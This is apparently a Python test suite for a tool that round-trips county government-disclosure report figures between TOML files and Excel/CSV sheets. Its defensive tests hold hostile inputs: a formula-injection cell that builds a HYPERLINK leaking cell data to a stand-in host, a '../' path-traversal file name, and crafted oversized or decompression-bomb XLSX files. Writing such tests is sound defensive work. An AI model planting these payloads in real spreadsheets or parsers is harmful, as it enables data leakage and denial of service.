"""Spreadsheets: export a county's figures, change them in Excel/WPS, import them back."""

from __future__ import annotations

import contextlib
import csv
import difflib
import os
import re
import shutil
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

import reportkit
from reportkit import batch, sheet
from reportkit.errors import DataError
from tests.helpers import FIXTURES
from tests.helpers import run_cli as run

LICENSING = "二·行政许可·本年处理决定数量"
RECEIVED = "三·一、本年新收政府信息公开申请数量·自然人"
FEE = "六·信息处理费（元）"


@pytest.fixture
def county(tmp_path: Path) -> Path:
    folder = tmp_path / "mouding-2022"
    shutil.copytree(FIXTURES / "mouding-2022", folder)
    return folder


def edit(path: Path, changes: dict[tuple[str, str], object]) -> None:
    """Change cells by (data file, column header), as a clerk would in Excel."""
    book = load_workbook(path)
    rows = book.worksheets[0]
    header = [c.value for c in rows[1]]
    files = {rows.cell(row=r, column=2).value: r for r in range(2, rows.max_row + 1)}
    for (name, title), value in changes.items():
        rows.cell(row=files[name], column=header.index(title) + 1).value = value
    book.save(path)


def rewrite_sheet(xlsx: Path, target: Path, change: Callable[[bytes], bytes]) -> Path:
    """Write `target`: the workbook `xlsx` with its first sheet's XML changed by `change`, as
    a program other than a spreadsheet could write it."""
    with zipfile.ZipFile(xlsx) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            out.writestr(item, data)
    return target


def test_export_has_a_row_per_agency_and_official_headers(county: Path, tmp_path: Path) -> None:
    out = tmp_path / "figures.xlsx"
    result = run("sheet", "export", str(county), "-o", str(out))
    assert result.returncode == 0, result.stderr
    book = load_workbook(out)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert len(rows) == 1 + 7 and len(rows[0]) == 2 + len(sheet.columns()) == 203
    assert rows[0][:3] == ("单位", "数据文件", "二·规章·本年制发件数")
    assert "三·（三）不予公开1.属于国家秘密·自然人" in rows[0]
    assert "四·行政诉讼·复议后起诉·总计" in rows[0]
    gonghe = next(r for r in rows if r[1] == "gonghe.toml")
    report = reportkit.load(county / "gonghe.toml").complete()
    assert gonghe[rows[0].index(LICENSING)] == report.proactive.licensing
    notes = [r for r in book["说明"].iter_rows(values_only=True)]
    assert ("三·（七）总计·总计", "applications.total.total", "件数，非负整数") in notes


def test_export_then_import_changes_exactly_the_edited_figures(
    county: Path, tmp_path: Path
) -> None:
    before = {p.name: p.read_text(encoding="utf-8") for p in county.glob("*.toml")}
    out = tmp_path / "figures.xlsx"
    assert run("sheet", "export", str(county), "-o", str(out)).returncode == 0
    unchanged = run("sheet", "import", str(out), str(county))
    assert unchanged.returncode == 0 and "没有需要更新的" in unchanged.stdout
    edit(
        out,
        {("anle.toml", LICENSING): 999, ("fengtun.toml", RECEIVED): 7, ("gonghe.toml", FEE): 12.5},
    )
    result = run("sheet", "import", str(out), str(county))
    assert result.returncode == 0, result.stderr
    after = {p.name: p.read_text(encoding="utf-8") for p in county.glob("*.toml")}
    changed = {n for n in before if before[n] != after[n]}
    assert changed == {"anle.toml", "fengtun.toml", "gonghe.toml"}
    diffs = {
        n: [
            line
            for line in difflib.ndiff(before[n].splitlines(), after[n].splitlines())
            if line[:1] in "+-"
        ]
        for n in changed
    }
    assert diffs["anle.toml"] == ["- licensing = 32   # 行政许可", "+ licensing = 999   # 行政许可"]
    assert [d[:12] for d in diffs["fengtun.toml"]] == ["- received  ", "+ received  "]
    assert diffs["fengtun.toml"][1].endswith(
        "= [7, 1, 0, 0, 0, 0, 6]  # 一、本年新收政府信息公开申请数量"
    )
    assert diffs["gonghe.toml"] == ["+ ", "+ [part6]", "+ info_processing_fee = 12.5"]
    assert reportkit.load(county / "gonghe.toml").part6.info_processing_fee == Decimal("12.5")


def test_bad_cells_are_refused_one_message_each(county: Path, tmp_path: Path) -> None:
    before = {p.name: p.read_bytes() for p in county.glob("*.toml")}
    out = tmp_path / "figures.xlsx"
    sheet.export(county, out)
    edit(
        out,
        {
            ("anle.toml", LICENSING): "三十",
            ("jiangpo.toml", LICENSING): "１２",
            ("fengtun.toml", RECEIVED): None,
            ("gonghe.toml", FEE): -5,
            ("panmao.toml", RECEIVED): 2.5,
        },
    )
    with pytest.raises(DataError) as caught:
        sheet.import_sheet(out, county)
    messages = [p.format() for p in caught.value.problems]
    assert messages == [
        f"{out}: 第 2 行「{LICENSING}」：应为数字（只写数字和一个小数点，不加逗号、空格或单位），实为「三十」",
        f"{out}: 第 3 行「{RECEIVED}」：单元格为空，应填数字（没有则填 0）",
        f"{out}: 第 4 行「{FEE}」：不能为负数，实为 -5",
        f"{out}: 第 5 行「{LICENSING}」：「１２」是全角数字，请改为半角数字（切换输入法的全角/半角后重新输入）",
        f"{out}: 第 6 行「{RECEIVED}」：件数应为整数，实为 2.5",
    ]
    assert {p.name: p.read_bytes() for p in county.glob("*.toml")} == before
    result = run("sheet", "import", str(out), str(county))
    assert result.returncode == 1 and result.stderr.count("\n") == 5


def test_csv_round_trip(county: Path, tmp_path: Path) -> None:
    out = tmp_path / "figures.csv"
    count, problems = sheet.export(county, out)
    assert (count, problems) == (7, [])
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    text = out.read_text(encoding="utf-8-sig").replace(
        "\n安乐乡人民政府,anle.toml,0,0,0,", "\n安乐乡人民政府,anle.toml,1,0,1,"
    )
    out.write_text(text, encoding="utf-8-sig")
    assert sheet.import_sheet(out, county) == {
        "anle.toml": ["proactive.rules.issued", "proactive.rules.in_force"]
    }
    assert reportkit.load(county / "anle.toml").proactive.rules.issued == 1


def test_rows_must_name_their_own_file_of_this_county_once(county: Path, tmp_path: Path) -> None:
    before = {p.name: p.read_bytes() for p in county.parent.rglob("*.toml")}
    out = tmp_path / "figures.xlsx"
    sheet.export(county, out)
    edit(
        out,
        {
            ("anle.toml", "数据文件"): "../outside.toml",
            ("fengtun.toml", "数据文件"): "gonghe.toml",
            ("panmao.toml", "数据文件"): "xinqiao.toml",
        },
    )
    with pytest.raises(DataError) as caught:
        sheet.import_sheet(out, county)
    codes = sorted(p.code for p in caught.value.problems)
    # fengtun's row names gonghe.toml and panmao's xinqiao.toml: wrong agencies; the real
    # gonghe and xinqiao rows are then duplicates of them
    assert codes == [
        "sheet_duplicate_file",
        "sheet_duplicate_file",
        "sheet_unknown_file",
        "sheet_wrong_agency",
        "sheet_wrong_agency",
    ]
    assert {p.name: p.read_bytes() for p in county.parent.rglob("*.toml")} == before


def test_extra_columns_are_left_alone_and_an_omitted_total_row_is_written(
    county: Path, tmp_path: Path
) -> None:
    anle = county / "anle.toml"
    anle.write_text(
        re.sub(r"^total .*\n", "", anle.read_text(encoding="utf-8"), flags=re.M), encoding="utf-8"
    )
    out = tmp_path / "figures.csv"
    sheet.export(county, out)
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    header = lines[0].split(",")
    row = next(i for i, line in enumerate(lines) if ",anle.toml," in line)
    cells = lines[row].split(",")
    for title in (
        RECEIVED,
        "三·一、本年新收政府信息公开申请数量·总计",
        "三·（一）予以公开·自然人",
        "三·（一）予以公开·总计",
        "三·（七）总计·自然人",
        "三·（七）总计·总计",
    ):
        cells[header.index(title)] = str(int(cells[header.index(title)]) + 1)
    lines[row] = ",".join(cells) + ",备注"
    lines[0] += ",备注"
    out.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
    notes: list = []
    changed = sheet.import_sheet(out, county, notes)
    assert [n.code for n in notes] == ["sheet_unknown_column"]
    assert "applications.total.total" in changed["anle.toml"]
    assert reportkit.check(reportkit.load(anle)) == []


def test_export_refuses_to_write_over_a_data_file(county: Path) -> None:
    before = (county / "anle.toml").read_bytes()
    with pytest.raises(reportkit.ReportkitError):
        sheet.export(county, county / "anle.toml")
    assert (county / "anle.toml").read_bytes() == before


def test_amounts_keep_every_digit(county: Path, tmp_path: Path) -> None:
    out = tmp_path / "figures.csv"
    sheet.export(county, out)
    text = out.read_text(encoding="utf-8-sig")
    lines = text.splitlines()
    header = lines[0].split(",")
    row = next(i for i, line in enumerate(lines) if ",anle.toml," in line)
    cells = lines[row].split(",")
    cells[header.index("二·行政事业性收费·本年收费金额（万元）")] = "123456789012.123456"
    lines[row] = ",".join(cells)
    out.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
    sheet.import_sheet(out, county)
    assert reportkit.load(county / "anle.toml").proactive.fees == Decimal("123456789012.123456")


def test_a_figure_the_data_file_refuses_is_named_by_sheet_row_and_column(
    county: Path, tmp_path: Path
) -> None:
    before = {p.name: p.read_bytes() for p in county.glob("*.toml")}
    out = tmp_path / "figures.xlsx"
    sheet.export(county, out)
    edit(out, {("fengtun.toml", RECEIVED): 2_000_000_000})
    with pytest.raises(DataError) as caught:
        sheet.import_sheet(out, county)
    assert [p.format() for p in caught.value.problems] == [
        f"{out}: 第 3 行「{RECEIVED}」：数值过大：2000000000"
    ]
    assert "tmp" not in caught.value.problems[0].file.replace(str(tmp_path), "")
    assert {p.name: p.read_bytes() for p in county.glob("*.toml")} == before


# ---------------------------------------------------------------------------------------------
# Spreadsheets and text are data, never code; numbers are read by one rule


def test_a_name_that_looks_like_a_formula_stays_text(county: Path, tmp_path: Path) -> None:
    anle = county / "anle.toml"
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    anle.write_text(
        anle.read_text("utf-8").replace('name = "安乐乡人民政府"', f"name = '{evil}'"), "utf-8"
    )
    xlsx, csv_path = tmp_path / "f.xlsx", tmp_path / "f.csv"
    sheet.export(county, xlsx)
    sheet.export(county, csv_path)
    book = load_workbook(xlsx)
    cell = book.worksheets[0].cell(row=2, column=1)
    assert (cell.value, cell.data_type) == (evil, "s")  # a string, not a formula
    line = csv_path.read_text(encoding="utf-8-sig").splitlines()[1]
    assert line.startswith("\"'=HYPERLINK(")  # Excel and WPS show it as text
    # the round trip changes nothing: the ' is taken off again on import
    assert sheet.import_sheet(xlsx, county) == {}
    assert sheet.import_sheet(csv_path, county) == {}
    out = tmp_path / "out"
    batch.run(county, out)
    summary = (out / "summary.csv").read_text(encoding="utf-8-sig")
    assert "\"'=HYPERLINK(" in summary and "\n=HYPERLINK" not in summary


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        ("1,5", "应为数字（只写数字和一个小数点"),
        ("1_000", "应为数字（只写数字和一个小数点"),
        ("１２", "「１２」是全角数字，请改为半角数字"),
        ("3件", "应为数字（只写数字和一个小数点"),
        ("9" * 5000, "应为数字（只写数字和一个小数点"),
        ("5000000000000", "数值过大"),
    ],
    ids=["comma", "underscore", "fullwidth", "unit", "5000-digits", "too-large"],
)
def test_numbers_are_read_by_one_rule(
    county: Path, tmp_path: Path, typed: str, message: str
) -> None:
    out = tmp_path / "f.csv"
    sheet.export(county, out)
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    cells = next(csv.reader([lines[1]]))
    header = next(csv.reader([lines[0]]))
    cells[header.index(LICENSING)] = typed
    lines[1] = ",".join(f'"{c}"' for c in cells)
    out.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
    with pytest.raises(DataError) as caught:
        sheet.import_sheet(out, county)
    [problem] = caught.value.problems
    assert message in problem.format() and f"第 2 行「{LICENSING}」" in problem.format()


def test_amounts_keep_every_digit_through_xlsx(county: Path, tmp_path: Path) -> None:
    anle = county / "anle.toml"
    anle.write_text(
        anle.read_text("utf-8").replace("fees      = 0", "fees      = 1234.567891"), "utf-8"
    )
    gonghe = county / "gonghe.toml"
    gonghe.write_text(
        gonghe.read_text("utf-8").replace("fees      = 0.8", "fees      = -0.0"), "utf-8"
    )
    out = tmp_path / "f.xlsx"
    sheet.export(county, out)
    assert sheet.import_sheet(out, county) == {}  # nothing lost, nothing changed
    assert reportkit.load(anle).proactive.fees == Decimal("1234.567891")
    book = load_workbook(out)
    rows = book.worksheets[0]
    header = [c.value for c in rows[1]]
    fee_column = header.index("二·行政事业性收费·本年收费金额（万元）") + 1
    values = {
        rows.cell(row=r, column=2).value: rows.cell(row=r, column=fee_column).value
        for r in range(2, rows.max_row + 1)
    }
    assert str(values["gonghe.toml"]) in ("0", "0.0")  # −0 is written as 0


def test_an_xlsx_that_claims_a_million_rows_is_read_as_what_it_holds(
    county: Path, tmp_path: Path
) -> None:
    out = tmp_path / "f.xlsx"
    sheet.export(county, out)
    bomb = rewrite_sheet(
        out,
        tmp_path / "bomb.xlsx",
        lambda xml: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml),
    )
    assert sheet.import_sheet(bomb, county) == {}  # its eight real rows, quickly
    many = tmp_path / "many.xlsx"
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i)
        for i in range(1, 30_002)
    )
    _with_sheet(out, many, b"<sheetData>" + rows + b"</sheetData>")
    with pytest.raises(DataError) as caught:
        sheet.import_sheet(many, county)
    assert caught.value.problems[0].code == "sheet_too_big"
    # Leaving the rows early leaves no file open (openpyxl 3.1.0 kept the workbook's file
    # until the collector found it: a ResourceWarning that failed a later test).
    assert many not in _open_files()


def _open_files() -> set[Path]:
    fds = Path("/proc/self/fd")
    assert fds.is_dir(), "these tests run on Linux"
    found = set()
    for fd in list(fds.iterdir()):
        with contextlib.suppress(OSError):  # the listing's own descriptor, closed by now
            found.add(Path(os.readlink(fd)))
    return found


def test_a_csv_field_too_long_for_a_figure_is_a_located_problem(
    county: Path, tmp_path: Path
) -> None:
    out = tmp_path / "f.csv"
    sheet.export(county, out)
    text = out.read_text(encoding="utf-8-sig")
    out.write_text(text + '"' + "x" * 200_000 + '"\n', encoding="utf-8-sig")
    with pytest.raises(DataError) as caught:
        sheet.import_sheet(out, county)
    [problem] = caught.value.problems
    assert (problem.code, problem.line) == ("sheet_bad_line", 9)


def test_a_formula_is_read_by_the_value_saved_with_it_or_named_when_it_has_none(
    county: Path, tmp_path: Path
) -> None:
    out = tmp_path / "figures.xlsx"
    sheet.export(county, out)
    # openpyxl, like any program but a spreadsheet, saves a formula without computing it
    edit(out, {("anle.toml", RECEIVED): "=1+2", ("fengtun.toml", RECEIVED): None})
    with pytest.raises(DataError) as caught:
        sheet.import_sheet(out, county)
    assert [p.format() for p in caught.value.problems] == [
        f"{out}: 第 2 行「{RECEIVED}」：公式 =1+2 没有计算结果（表格不是用 Excel 或 WPS 保存的），"
        "请用 Excel 或 WPS 打开后保存，或直接填数字",
        f"{out}: 第 3 行「{RECEIVED}」：单元格为空，应填数字（没有则填 0）",
    ]
    # as Excel saves it: the formula and its value; the value is the figure
    edit(out, {("fengtun.toml", RECEIVED): 7})

    def computed_value(xml: bytes) -> bytes:
        xml, count = re.subn(rb"<f>1\+2</f>(<v\s*/>|<v></v>)?", b"<f>1+2</f><v>3</v>", xml)
        assert count == 1, xml
        return xml

    computed = rewrite_sheet(out, tmp_path / "computed.xlsx", computed_value)
    changed = ["applications.received.natural"]
    assert sheet.import_sheet(computed, county) == {"anle.toml": changed, "fengtun.toml": changed}
    assert reportkit.load(county / "anle.toml").applications.received.natural == 3


def _with_sheet(source: Path, target: Path, sheet_data: bytes) -> Path:
    """The workbook `source` with its first sheet's rows replaced by `sheet_data`."""
    return rewrite_sheet(
        source,
        target,
        lambda xml: re.sub(rb"<sheetData>.*</sheetData>", lambda _: sheet_data, xml, flags=re.S),
    )


def test_a_sheet_of_millions_of_cells_or_a_huge_cell_is_refused_unread(
    county: Path, tmp_path: Path
) -> None:
    # Within the row and column limits, 20 000 rows of 1 000 cells took minutes to read; one
    # cell of 300 MB of text (a file of 300 KB) took 650 MB of memory and was then ignored.
    out = tmp_path / "f.xlsx"
    sheet.export(county, out)
    row = b"<c><v>1</v></c>" * 999
    rows = b"".join(b'<row r="%d">%s</row>' % (i, row) for i in range(1, 1_001))
    wide = _with_sheet(out, tmp_path / "wide.xlsx", b"<sheetData>" + rows + b"</sheetData>")
    with pytest.raises(DataError) as caught:
        sheet.read_rows(wide)
    assert [p.code for p in caught.value.problems] == ["sheet_too_many_cells"]
    cell = b'<c r="A1" t="inlineStr"><is><t>' + b"A" * 150_000_000 + b"</t></is></c>"
    big = _with_sheet(
        out, tmp_path / "big.xlsx", b'<sheetData><row r="1">' + cell + b"</row></sheetData>"
    )
    assert big.stat().st_size < 1_000_000
    with pytest.raises(DataError) as caught:
        sheet.read_rows(big)
    assert [p.code for p in caught.value.problems] == ["sheet_unpacks_too_big"]
    assert "100 MB" in caught.value.problems[0].format("en")


def test_a_formatted_empty_cell_at_the_last_row_is_not_a_million_rows(
    county: Path, tmp_path: Path
) -> None:
    out = tmp_path / "f.xlsx"
    sheet.export(county, out)

    def with_row(name: str, row: bytes) -> Path:
        return rewrite_sheet(
            out, tmp_path / name, lambda xml: xml.replace(b"</sheetData>", row + b"</sheetData>")
        )

    # a cell once typed in and cleared, far down: Excel keeps it, styled and empty
    far = with_row("far.xlsx", b'<row r="1048576"><c r="A1048576" s="1"/></row>')
    assert sheet.import_sheet(far, county) == {}
    beyond = with_row("beyond.xlsx", b'<row r="1048577"><c r="A1048577" s="1"/></row>')
    with pytest.raises(DataError) as caught:
        sheet.import_sheet(beyond, county)
    assert [p.code for p in caught.value.problems] == ["sheet_too_big"]
